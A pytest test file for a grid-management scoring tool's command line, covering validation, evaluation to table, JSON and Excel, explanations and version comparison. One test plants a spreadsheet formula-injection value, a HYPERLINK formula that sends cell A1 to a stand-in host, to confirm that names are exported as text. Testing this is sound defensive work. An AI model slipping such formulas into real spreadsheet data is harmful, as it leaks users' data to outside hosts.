"""The scoring command line: validate, evaluate (table, JSON, Excel), explain, compare."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
import yaml
from openpyxl import Workbook, load_workbook

from services.scoring import cli

TEMPLATE = Path(__file__).resolve().parents[2] / "templates" / "seed_001_xitaihu_park_grid.yaml"
ZEROS = (
    "resident_complaints_verified",
    "inspector_complaints_verified",
    "leader_dissatisfied",
    "meetings_missed",
    "signboards_missing",
    "badge_missing",
    "confidentiality_breaches",
    "trainings_missed",
    "workdays_unpatrolled",
    "workdays_patrol_short",
    "visit_cycle_misses",
    "subcategories_not_collected",
    "subcategories_below_target",
    "false_records",
    "updates_missed",
    "shirked_events",
    "unqualified_reports",
    "false_reports",
    "spot_check_findings",
    "spot_check_overdue",
    "resident_reports_found",
    "other_overdue",
)
CLEAN = dict.fromkeys(ZEROS, 0) | {"valid_reports": 80, "service_records": 80, "reports_total": 90}


@pytest.fixture
def files(tmp_path: Path) -> dict[str, Path]:
    facts = {
        "period": "2024-05",
        "subjects": [
            {"id": "g1", "name": "一网格", "facts": CLEAN},
            {"id": "g2", "name": "二网格", "facts": CLEAN | {"valid_reports": 70}},
            {"id": "g3", "name": "三网格", "facts": {"valid_reports": 80}},
        ],
    }
    facts_path = tmp_path / "facts.yaml"
    facts_path.write_text(yaml.safe_dump(facts, allow_unicode=True), encoding="utf-8")
    scheme_path = tmp_path / "scheme.yaml"
    scheme_path.write_text(TEMPLATE.read_text(encoding="utf-8"), encoding="utf-8")
    draft = yaml.safe_load(TEMPLATE.read_text(encoding="utf-8"))
    draft["version"] = 2
    draft["indicators"][9]["rule"]["per_unit"] = "0.3"
    draft_path = tmp_path / "draft.yaml"
    draft_path.write_text(yaml.safe_dump(draft, allow_unicode=True), encoding="utf-8")
    return {"facts": facts_path, "scheme": scheme_path, "draft": draft_path, "dir": tmp_path}


def call(*args: str) -> tuple[int, str]:
    out = io.StringIO()
    return cli.main([*args], out=out), out.getvalue()


def test_table(files: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    code, text = call("evaluate", str(files["scheme"]), str(files["facts"]))
    assert code == cli.INCOMPLETE  # g3 lacks facts: written, but scripts must notice
    assert "incomplete: g3 不可评估 not assessable: resident_complaints_verified" in (
        capsys.readouterr().err
    )
    rows = text.splitlines()
    assert rows[0].split()[:4] == ["排名", "对象编号", "对象名称", "总分"]
    assert rows[1].split()[:4] == ["1", "g1", "一网格", "100"]
    assert rows[2].split()[:4] == ["2", "g2", "二网格", "98"]  # 10 short × 0.2
    assert "不可评估" in rows[3]
    assert any("g3" in r and "resident_complaints_verified" in r for r in rows[4:])


def test_complete_sheets_exit_zero_and_incomplete_ones_three(
    files: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    facts = yaml.safe_load(files["facts"].read_text(encoding="utf-8"))
    facts["subjects"] = facts["subjects"][:2]  # g1 and g2 have every fact
    complete = tmp_path / "complete.yaml"
    complete.write_text(yaml.safe_dump(facts, allow_unicode=True), encoding="utf-8")
    for fmt in ("table", "json"):
        code, _ = call("evaluate", str(files["scheme"]), str(complete), "--format", fmt)
        assert code == cli.DONE
    assert capsys.readouterr().err == ""
    code, text = call("evaluate", str(files["scheme"]), str(files["facts"]), "--format", "json")
    assert code == cli.INCOMPLETE
    assert json.loads(text)["sheets"][2]["assessable"] is False  # still written in full
    assert call("explain", str(files["scheme"]), str(files["facts"]), "g2")[0] == cli.DONE
    assert call("explain", str(files["scheme"]), str(files["facts"]), "g3")[0] == cli.INCOMPLETE
    capsys.readouterr()
    with pytest.raises(SystemExit):
        cli.main(["evaluate", "--help"])
    assert "exit status 3" in capsys.readouterr().out.replace("\n", " ")


def test_unknown_fact_name_is_an_error_naming_the_closest_input(
    files: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    facts = yaml.safe_load(files["facts"].read_text(encoding="utf-8"))
    del facts["subjects"][0]["facts"]["spot_check_overdue"]
    facts["subjects"][0]["facts"]["spot_check_overdu"] = 1  # the typo used to be ignored
    typo = tmp_path / "typo.yaml"
    typo.write_text(yaml.safe_dump(facts, allow_unicode=True), encoding="utf-8")
    code, text = call("evaluate", str(files["scheme"]), str(typo))
    assert code == cli.INVALID
    assert text == ""
    err = capsys.readouterr().err
    assert "facts is invalid (1 problem):" in err
    assert (
        "subjects[0].facts.spot_check_overdu: is not an input of scheme "
        "seed-001-xitaihu-basic-grid; did you mean spot_check_overdue?"
    ) in err


def test_json_is_canonical_and_repeatable(files: dict[str, Path]) -> None:
    first = call("evaluate", str(files["scheme"]), str(files["facts"]), "--format", "json")[1]
    second = call("evaluate", str(files["scheme"]), str(files["facts"]), "--format", "json")[1]
    assert first == second
    data = json.loads(first)
    assert data["sheets"][1]["lines"][9]["explain"]["zh"].startswith("月有效上报服务管理事项70条")


def evaluate_to_workbook(files: dict[str, Path], target: Path) -> Workbook:
    code, _ = call(
        "evaluate",
        str(files["scheme"]),
        str(files["facts"]),
        "--format",
        "xlsx",
        "--output",
        str(target),
    )
    assert code == cli.INCOMPLETE  # written all the same; g3 is not assessable
    return load_workbook(target)


def test_excel_workbook_has_chinese_headers(files: dict[str, Path]) -> None:
    target = files["dir"] / "out.xlsx"
    book = evaluate_to_workbook(files, target)
    assert book.sheetnames == ["总表", "明细", "金额", "缺失数据"]
    header = [c.value for c in book["总表"][1]]
    assert header[:4] == ["排名", "对象编号", "对象名称", "总分"]
    assert "网格工作纪律" in header
    assert book["明细"].cell(row=1, column=8).value == "计算说明"
    assert book["缺失数据"].max_row > 1


def test_excel_workbook_writes_names_as_text_never_formulas(
    files: dict[str, Path], tmp_path: Path
) -> None:
    facts = yaml.safe_load(files["facts"].read_text(encoding="utf-8"))
    facts["subjects"][0]["name"] = '=HYPERLINK("http://x.test/?"&A1,"点击")'
    facts["subjects"][1]["name"] = "网格\x0b二"
    files["facts"].write_text(yaml.safe_dump(facts, allow_unicode=True), encoding="utf-8")
    target = tmp_path / "names.xlsx"
    book = evaluate_to_workbook(files, target)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    names = {cell.value for cell in book["总表"]["C"]}
    assert '=HYPERLINK("http://x.test/?"&A1,"点击")' in names
    assert "网格\ufffd二" in names


def test_explain_one_subject(files: dict[str, Path]) -> None:
    code, text = call("explain", str(files["scheme"]), str(files["facts"]), "g2")
    assert code == 0
    assert "事项上报数量—有效服务管理事项 [report_quantity] 13/15" in text
    assert "月有效上报服务管理事项70条，少于80条共10条，每少1条扣0.2分，扣2分，得13分" in text
    assert "总分: 98" in text
    code, text = call("explain", str(files["scheme"]), str(files["facts"]), "g2", "--lang", "en")
    assert "total: 98" in text


def test_compare_versions(files: dict[str, Path]) -> None:
    code, text = call(
        "compare",
        str(files["scheme"]),
        str(files["draft"]),
        str(files["facts"]),
        "--format",
        "json",
    )
    assert code == cli.INCOMPLETE  # g3 is not assessable under either version
    subjects = {s["subject_id"]: s for s in json.loads(text)["subjects"]}
    assert subjects["g2"]["total"] == {"before": "98", "after": "97", "delta": "-1"}
    assert subjects["g1"]["total"]["delta"] == "0"


def test_invalid_scheme_lists_every_problem(
    files: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    broken = files["dir"] / "broken.yaml"
    broken.write_text("id: x\nversion: 0\n", encoding="utf-8")
    code, text = call("validate", str(broken))
    assert code == 2
    assert "version: must be at least 1" in text
    assert "subject: is required" in text
    code, _ = call("evaluate", str(broken), str(files["facts"]))
    assert code == 2
    assert "version: must be at least 1" in capsys.readouterr().err


def test_progress_goes_to_stderr(
    files: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    call("evaluate", str(files["scheme"]), str(files["facts"]), "--progress")
    assert "3/3" in capsys.readouterr().err
